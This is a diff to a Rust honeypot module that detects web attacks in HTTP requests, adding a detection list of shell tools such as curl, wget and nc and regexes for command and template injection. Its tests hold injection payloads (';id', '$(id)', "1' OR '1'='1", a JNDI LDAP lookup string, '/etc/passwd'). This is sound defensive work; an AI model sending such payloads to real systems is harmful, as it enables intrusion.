@@ -6,6 +6,15 @@
 //! newline. They are kept as written (Rust's `.` also stops at `\n`), with a `^` for the anchor,
 //! except where the spec words a rule differently: `cmd_exec` excludes letters (Python's `A-z`
 //! also took ``[\]^_` ``), and `php_object_injection` finds `O:<n>:` after any `;`, `{` or `}`.
+//!
+//! A detection carries the parameters that triggered it, for the emulator (Tanner's
+//! `attack_params` of the winning scanner): the first one, or every one for `xss`.
+//!
+//! Where Tanner's rules find no attack (the request would be `index`, `wp-content` or
+//! `unknown`), flowmon's additions look at the same values for what scanners send most and
+//! Tanner misses: commands after a shell separator (`;id`, `|whoami`, `$(id)`, backticks,
+//! `${IFS}`) and template expressions (`${7*7}`, `#{7*7}`, `{% ... %}`). Whatever Tanner's rules
+//! detect stays detected the same (`docs/snare.md`).
 
 use std::borrow::Cow;
 
@@ -14,6 +23,7 @@ use regex::Regex;
 use serde::{Deserialize, Serialize};
 
 use super::event::Event;
+use crate::emulation::{Kind, Param};
 
 /// A detection's name, as SNARE and Tanner's readers know it.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
@@ -71,6 +81,24 @@ impl AttackType {
         }
     }
 
+    /// The emulator that answers this attack type, if it is an attack.
+    pub const fn emulator(self) -> Option<Kind> {
+        use AttackType::*;
+        Some(match self {
+            Unknown | Index | WpContent => return None,
+            Sqli => Kind::Sqli,
+            Rfi => Kind::Rfi,
+            Lfi => Kind::Lfi,
+            Crlf => Kind::Crlf,
+            Xss => Kind::Xss,
+            PhpCodeInjection => Kind::PhpCodeInjection,
+            PhpObjectInjection => Kind::PhpObjectInjection,
+            CmdExec => Kind::CmdExec,
+            XxeInjection => Kind::XxeInjection,
+            TemplateInjection => Kind::TemplateInjection,
+        })
+    }
+
     /// Tanner's order: a higher order wins over a lower one.
     pub const fn order(self) -> u8 {
         use AttackType::*;
@@ -87,6 +115,13 @@ impl AttackType {
 /// Cookies are scanned only for these.
 const COOKIE_SCANNERS: [AttackType; 2] = [AttackType::Sqli, AttackType::PhpObjectInjection];
 
+/// The shell words flowmon's `cmd_exec` addition looks for after a separator.
+const SHELL_WORDS: &str = "id|whoami|uname|cat|ls|pwd|echo|printf|ps|ifconfig|ip|netstat|ss|\
+    wget|curl|nc|ncat|netcat|telnet|bash|sh|dash|busybox|ping|sleep|nslookup|dig|host|python3?|\
+    perl|php|ruby|chmod|rm|touch|mkdir|cd|find|grep|head|tail|env|printenv|hostname|w|who|\
+    uptime|date|expr|timeout|tftp|ftpget|base64|crontab|sudo|su|kill|type|dir|ver|systeminfo|\
+    powershell|cmd";
+
 enum Check {
     /// libinjection's verdict.
     Sqli,
@@ -100,10 +135,31 @@ struct Scanner {
     check: Check,
 }
 
-/// The ten scanners, compiled once.
+/// The detection of one request.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Detection {
+    pub attack: AttackType,
+    /// The parameters that triggered it, in request order (empty for no attack): the first
+    /// to reach the winning order, or, for `xss`, every one the `xss` scanner fires on. For
+    /// `template_injection`, values are percent-decoded once more, as Tanner's emulator did.
+    pub params: Vec<Param>,
+}
+
+impl Detection {
+    fn none(attack: AttackType) -> Self {
+        Self {
+            attack,
+            params: Vec::new(),
+        }
+    }
+}
+
+/// The ten scanners, compiled once, and flowmon's additions.
 pub struct Detector {
     /// In Tanner's order, which breaks ties within a value.
     scanners: [Scanner; 10],
+    /// Looked at only where the ten find no attack.
+    additions: [Scanner; 2],
 }
 
 impl Default for Detector {
@@ -152,49 +208,116 @@ impl Detector {
                     Check::DecodedPattern(pattern(r"^.*(?:\{\{.*\}\}|<%|\s%>)")),
                 ),
             ],
+            additions: [
+                scanner(
+                    TemplateInjection,
+                    // An expression, not a plain name such as `${IFS}`.
+                    Check::DecodedPattern(pattern(
+                        r"[$#*]\{[^{}]*[^A-Za-z0-9_{}\s][^{}]*\}|\{%.*%\}",
+                    )),
+                ),
+                scanner(
+                    CmdExec,
+                    Check::Pattern(pattern(&format!(
+                        r"(?:[;|&\n\r`]|\$\()\s*(?:/(?:usr/)?s?bin/)?(?:{SHELL_WORDS})(?:$|[\s;|&`)<>'\x22])|\$\{{IFS\}}"
+                    ))),
+                ),
+            ],
         }
     }
 
     /// The detection for one event: POST fields for a POST, else the path, its query values
     /// and the cookies.
-    pub fn detect(&self, event: &Event) -> AttackType {
-        let mut best = AttackType::Unknown;
-        if event.method.as_deref() == Some("POST") {
-            let fields = event.post_data.iter().flat_map(|fields| fields.values());
-            for value in fields.flatten() {
-                self.scan(value, |_| true, &mut best);
-            }
-            return best;
-        }
-        if let Some(path) = &event.path {
-            if path.starts_with("/wp-content/") {
-                best = AttackType::WpContent;
+    pub fn detect(&self, event: &Event) -> Detection {
+        let fields = |fields: &super::event::Fields| -> Vec<(String, String)> {
+            fields
+                .iter()
+                .filter_map(|(name, value)| Some((name.clone(), value.clone()?)))
+                .collect()
+        };
+        let (baseline, scanned) = if event.method.as_deref() == Some("POST") {
+            let posted = event.post_data.as_ref().map(fields).unwrap_or_default();
+            let found = self.scan(&self.scanners, &posted, |_| true);
+            (
+                found.unwrap_or(Detection::none(AttackType::Unknown)),
+                posted,
+            )
+        } else {
+            let path = event.path.as_deref().unwrap_or_default();
+            let mut best = Detection::none(if path.starts_with("/wp-content/") {
+                AttackType::WpContent
             } else if path.starts_with('/') {
-                best = AttackType::Index;
+                AttackType::Index
+            } else {
+                AttackType::Unknown
+            });
+            let query = query_params(path);
+            if let Some(found) = self.scan(&self.scanners, &query, |_| true)
+                && found.attack.order() > best.attack.order()
+            {
+                best = found;
             }
-            for value in query_values(path) {
-                self.scan(&value, |_| true, &mut best);
+            let cookies = fields(&event.cookies);
+            if let Some(found) =
+                self.scan(&self.scanners, &cookies, |a| COOKIE_SCANNERS.contains(&a))
+                && found.attack.order() > best.attack.order()
+            {
+                best = found;
             }
+            (best, query)
+        };
+        if baseline.attack.order() > AttackType::Index.order() {
+            return baseline;
         }
-        for value in event.cookies.values().flatten() {
-            self.scan(value, |attack| COOKIE_SCANNERS.contains(&attack), &mut best);
-        }
-        best
+        self.scan(&self.additions, &scanned, |_| true)
+            .unwrap_or(baseline)
     }
 
-    /// Raises `best` to what `value` shows; a scanner that cannot beat `best` is not run.
-    fn scan(&self, value: &str, wanted: impl Fn(AttackType) -> bool, best: &mut AttackType) {
-        if value.is_empty() {
-            return;
-        }
-        for scanner in &self.scanners {
-            if scanner.attack.order() > best.order()
-                && wanted(scanner.attack)
-                && scanner.fires(value)
-            {
-                *best = scanner.attack;
+    /// The winner among `params` (name, value) of the `wanted` scanners, with the parameters
+    /// that triggered it; `None` when nothing fires.
+    fn scan(
+        &self,
+        scanners: &[Scanner],
+        params: &[(String, String)],
+        wanted: impl Fn(AttackType) -> bool,
+    ) -> Option<Detection> {
+        let mut best: Option<(&Scanner, usize)> = None;
+        for (at, (_, value)) in params.iter().enumerate() {
+            if value.is_empty() {
+                continue;
+            }
+            for scanner in scanners {
+                // A scanner that cannot beat the best so far is not run.
+                let order = best.map_or(0, |(best, _)| best.attack.order());
+                if scanner.attack.order() > order && wanted(scanner.attack) && scanner.fires(value)
+                {
+                    best = Some((scanner, at));
+                }
             }
         }
+        let (scanner, at) = best?;
+        let triggered = |(name, value): &(String, String)| Param {
+            name: name.clone(),
+            value: match scanner.check {
+                Check::DecodedPattern(_) => {
+                    percent_decode_str(value).decode_utf8_lossy().into_owned()
+                }
+                _ => value.clone(),
+            },
+        };
+        let params = if scanner.attack == AttackType::Xss {
+            params
+                .iter()
+                .filter(|(_, value)| !value.is_empty() && scanner.fires(value))
+                .map(triggered)
+                .collect()
+        } else {
+            vec![triggered(&params[at])]
+        };
+        Some(Detection {
+            attack: scanner.attack,
+            params,
+        })
     }
 }
 
@@ -217,10 +340,10 @@ fn is_sqli(value: &str) -> bool {
         .unwrap_or(false)
 }
 
-/// The query values Tanner scans, in query order: it percent-decodes the whole path, protects
-/// `&&` and `;` from splitting, and lets yarl cut off a fragment and the query and form-decode
-/// each `&`-separated value (so `%2527` reaches the scanners as `'`).
-fn query_values(path: &str) -> Vec<String> {
+/// The query parameters Tanner scans, in query order: it percent-decodes the whole path,
+/// protects `&&` and `;` from splitting, and lets yarl cut off a fragment and the query and
+/// form-decode each `&`-separated name and value (so `%2527` reaches the scanners as `'`).
+fn query_params(path: &str) -> Vec<(String, String)> {
     let decoded = percent_decode_str(path).decode_utf8_lossy();
     let protected: Cow<str> = if decoded.contains([';', '&']) {
         decoded.replace("&&", "%26%26").replace(';', "%3B").into()
@@ -232,7 +355,7 @@ fn query_values(path: &str) -> Vec<String> {
         return Vec::new();
     };
     form_urlencoded::parse(query.as_bytes())
-        .map(|(_, value)| value.into_owned())
+        .map(|(name, value)| (name.into_owned(), value.into_owned()))
         .collect()
 }
 
@@ -251,7 +374,7 @@ mod tests {
     }
 
     fn detect(path: &str) -> AttackType {
-        Detector::new().detect(&get(path))
+        Detector::new().detect(&get(path)).attack
     }
 
     /// Every scanner that fires on `value`, in Tanner's order.
@@ -368,12 +491,115 @@ mod tests {
 
     #[test]
     fn query_values_are_split_as_tanner_splits_them() {
-        assert_eq!(query_values("/p?a=1&b=x+y&c"), ["1", "x y", ""]);
-        assert_eq!(query_values("/p?cmd=ls&&id;uname"), ["ls&&id;uname"]);
-        assert_eq!(query_values("/p?a=%2527&b=2"), ["'", "2"]);
-        assert_eq!(query_values("/p?a=1%23frag&b=2"), ["1"]);
-        assert_eq!(query_values("/p%3Fa=%FF"), ["\u{fffd}"]);
-        assert_eq!(query_values("/p"), Vec::<String>::new());
+        let values = |path| -> Vec<String> {
+            query_params(path)
+                .into_iter()
+                .map(|(_, value)| value)
+                .collect()
+        };
+        assert_eq!(values("/p?a=1&b=x+y&c"), ["1", "x y", ""]);
+        assert_eq!(values("/p?cmd=ls&&id;uname"), ["ls&&id;uname"]);
+        assert_eq!(values("/p?a=%2527&b=2"), ["'", "2"]);
+        assert_eq!(values("/p?a=1%23frag&b=2"), ["1"]);
+        assert_eq!(values("/p%3Fa=%FF"), ["\u{fffd}"]);
+        assert_eq!(values("/p"), Vec::<String>::new());
+        assert_eq!(
+            query_params("/p?na%2Bme=v&x+y=1"),
+            [
+                ("na me".to_owned(), "v".to_owned()),
+                ("x y".to_owned(), "1".to_owned())
+            ]
+        );
+    }
+
+    fn param(name: &str, value: &str) -> Param {
+        Param {
+            name: name.into(),
+            value: value.into(),
+        }
+    }
+
+    #[test]
+    fn a_detection_names_the_parameters_that_triggered_it() {
+        let detector = Detector::new();
+        let detected = |path| detector.detect(&get(path));
+        assert_eq!(
+            detected("/index.php?a=1&id=1%20UNION%20SELECT%201&b=2'--"),
+            Detection {
+                attack: AttackType::Sqli,
+                params: vec![param("id", "1 UNION SELECT 1")],
+            }
+        );
+        // xss joins every value its scanner fires on, even one that another scanner won.
+        assert_eq!(
+            detected("/s?q=%3Cb%3E&x=1&r=%3C%3Fxml%20a%3E&t=plain").params,
+            [param("q", "<b>"), param("r", "<?xml a>")]
+        );
+        assert_eq!(
+            detected("/t?n=%257B%257B7*7%257D%257D").params,
+            [param("n", "{{7*7}}")]
+        );
+        assert_eq!(detected("/").params, []);
+        let cookie = detector.detect(&Event::parse(
+            serde_json::json!({
+                "method": "GET", "path": "/", "cookies": {"sess_uuid": null, "c": "1' OR '1'='1"}
+            })
+            .to_string()
+            .as_bytes(),
+        ).unwrap());
+        assert_eq!(
+            (cookie.attack, cookie.params),
+            (AttackType::Sqli, vec![param("c", "1' OR '1'='1")])
+        );
+    }
+
+    #[test]
+    fn flowmons_additions_find_what_tanners_rules_miss() {
+        for (value, attack) in [
+            (";id", AttackType::CmdExec),
+            ("|whoami", AttackType::CmdExec),
+            ("127.0.0.1||id", AttackType::CmdExec),
+            ("$(id)", AttackType::CmdExec),
+            ("`id`", AttackType::CmdExec),
+            ("x%0Aid", AttackType::CmdExec),
+            (";/bin/sh -c id", AttackType::CmdExec),
+            ("cat${IFS}x", AttackType::CmdExec),
+            ("${7*7}", AttackType::TemplateInjection),
+            ("#{7*7}", AttackType::TemplateInjection),
+            ("{%25 print 7*7 %25}", AttackType::TemplateInjection),
+            (
+                "${jndi:ldap://198.51.100.7/a}",
+                AttackType::TemplateInjection,
+            ),
+            // Not attacks.
+            ("id", AttackType::Index),
+            ("ls", AttackType::Index),
+            ("cat", AttackType::Index),
+            ("a;b", AttackType::Index),
+            ("rock|shore", AttackType::Index),
+            ("price: ${price}", AttackType::Index),
+        ] {
+            // A `#` reaches a value only encoded twice: Tanner decodes the whole path first, and
+            // a bare `#` starts the fragment.
+            let path = format!(
+                "/p?v={}",
+                value
+                    .replace(' ', "%20")
+                    .replace('#', "%2523")
+                    .replace('`', "%60")
+            );
+            assert_eq!(detect(&path), attack, "{value}");
+        }
+        // What Tanner detects stays as Tanner detects it.
+        assert_eq!(detect("/p?f=/etc/passwd&c=;id"), AttackType::Lfi);
+        assert_eq!(detect("/p?c=http://x/;id"), AttackType::Rfi);
+        let post = Event::parse(
+            serde_json::json!({"method": "POST", "path": "/", "post_data": {"host": "1;whoami"}})
+                .to_string()
+                .as_bytes(),
+        )
+        .unwrap();
+        assert_eq!(Detector::new().detect(&post).attack, AttackType::CmdExec);
     }
 
     #[test]
@@ -384,13 +610,15 @@ mod tests {
             "method": "POST", "path": "/?a=<script>",
             "post_data": {"user": "admin'--", "pass": "<b>"}
         }));
-        assert_eq!(detector.detect(&post), AttackType::Xss);
+        assert_eq!(detector.detect(&post).attack, AttackType::Xss);
         let benign_post = event(serde_json::json!({"method": "POST", "path": "/login"}));
-        assert_eq!(detector.detect(&benign_post), AttackType::Unknown);
+        assert_eq!(detector.detect(&benign_post).attack, AttackType::Unknown);
         let cookie = |value: &str| {
-            detector.detect(&event(serde_json::json!({
-                "method": "GET", "path": "/", "cookies": {"sess_uuid": null, "c": value}
-            })))
+            detector
+                .detect(&event(serde_json::json!({
+                    "method": "GET", "path": "/", "cookies": {"sess_uuid": null, "c": value}
+                })))
+                .attack
         };
         assert_eq!(cookie("1' OR '1'='1"), AttackType::Sqli);
         assert_eq!(
